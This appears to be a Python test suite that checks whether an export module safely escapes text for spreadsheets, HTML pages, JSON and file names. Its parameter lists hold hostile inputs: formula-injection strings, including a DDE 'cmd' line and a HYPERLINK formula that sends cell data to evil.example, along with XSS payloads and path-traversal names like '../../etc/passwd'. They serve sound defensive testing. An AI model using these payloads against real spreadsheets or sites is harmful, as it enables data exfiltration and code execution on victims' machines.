"""Whatever stands in a system is text in a package: in a page, in a spreadsheet, in JSON."""

# ruff: noqa: RUF001 - letters that only look like others are what this is about

import csv
import html
import io
import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consent.requests.packages.cells import for_page, for_services, for_spreadsheet, visible
from consent.requests.packages.naming import name_dataset, slug
from consent.requests.packages.types import Gone

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1+1",
    "﹢1",
    '"=1+1',
    "'=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t",
    "\rx",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "harmless;=1+1",
    "harmless\n=1+1",
    "harmless\t+1",
    "harmless|@x",
    'harmless";"=1+1',
]
UNSEEN = [
    "\x00",
    "\x1b[31m",
    "\x7f",
    "\u202e",
    "\u2066",
    "\u200f",
    "\u061c",
    "\ufeff",
    "\u2028",
    "\ud800",
    "\U000e0041",
]
TRIGGER = re.compile(r"[=+\-@＝＋－＠−﹢﹣]")


def read_field(field: str) -> str:
    [[value]] = csv.reader(io.StringIO(field, newline=""))
    return value


@pytest.mark.parametrize("text", FORMULAS)
def test_no_spreadsheet_takes_text_for_a_formula(text: str) -> None:
    value = read_field(for_spreadsheet(text, withheld=""))

    for piece in re.split(r"[;|\t\r\n]", value):
        assert not TRIGGER.match(piece.lstrip(' \u00a0\u3000"')), value
    assert value[:1] not in {"\t", "\r", "\n"}


@given(st.text(alphabet="=+-@＝;|\t\r\n\"' a1", max_size=12))
def test_no_spreadsheet_takes_any_text_for_a_formula(text: str) -> None:
    value = read_field(for_spreadsheet(text, withheld=""))

    for piece in re.split(r"[;|\t\r\n]", value):
        assert not TRIGGER.match(piece.lstrip(' \u00a0\u3000"'))


def test_numbers_stay_numbers_in_a_spreadsheet() -> None:
    assert for_spreadsheet(-5, withheld="") == '"-5"'
    assert for_spreadsheet(-5.25, withheld="") == '"-5.25"'
    assert for_spreadsheet("-5", withheld="") == '"\'-5"'


def test_what_is_withheld_is_said_in_words_in_a_spreadsheet_and_named_in_json() -> None:
    assert for_spreadsheet(Gone("about_others"), withheld="[withheld]") == '"[withheld]"'
    assert json.loads(for_services({"a": Gone("about_others")})) == {"a": {"$withheld": "about_others"}}


@given(st.text())
def test_quotes_and_line_breaks_never_end_a_field_early(text: str) -> None:
    rows = list(csv.reader(io.StringIO(f'{for_spreadsheet(text, withheld="")},"end"', newline="")))

    assert len(rows) == 1
    assert rows[0][1] == "end"


@pytest.mark.parametrize("letter", UNSEEN)
def test_unseen_characters_are_shown_for_what_they_are(letter: str) -> None:
    shown = visible(f"a{letter}b")

    assert letter[0] not in shown
    assert f"U+{ord(letter[0]):04X}" in shown
    shown.encode()


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "</td></table><img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "' onmouseover='alert(1)",
        '" onmouseover="alert(1)',
        "&lt;script&gt;",
        "<!--",
        "{{ secret }}{% load x %}",
        "<style>*{background:url(//evil.example)}</style>",
        "javascript:alert(1)",
        "\x3cscript\x3e",
    ],
)
def test_markup_is_text_in_a_page(text: str) -> None:
    page = Seen()
    page.feed(f'<td title="{for_page(text)}">{for_page(text)}</td>')
    page.close()

    assert page.tags == ["td"]
    assert page.attributes == [("title", text)]
    assert page.text == text


@given(st.text())
def test_any_text_is_text_in_a_page(text: str) -> None:
    page = Seen()
    page.feed(f"<td>{for_page(text)}</td>")
    page.close()

    assert page.tags == ["td"]
    assert html.unescape(for_page(text)) == visible(text)


@given(
    st.dictionaries(st.text(), st.recursive(st.none() | st.booleans() | st.integers() | st.text(), st.lists))
)
def test_json_has_every_value_as_it_is(values: dict[str, object]) -> None:
    line = for_services(values)

    assert json.loads(line) == values
    assert "\n" not in line
    line.encode()


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "C:\\Windows",
        "a/b",
        "..",
        "",
        "\x00",
        "con",
        "Köln Straße",
        "=1+1",
        "日本語",
        "x" * 500,
    ],
)
def test_no_name_of_a_file_comes_from_data_or_leaves_its_folder(name: str) -> None:
    assert re.fullmatch(r"[a-z0-9-]{1,40}", slug(name))
    assert re.fullmatch(r"01-[a-z0-9-]{1,40}-002-[a-z0-9-]{1,40}", name_dataset(1, name, 2, name))
    assert name_dataset(1, "crm", 2, None) == "01-crm-002-data"
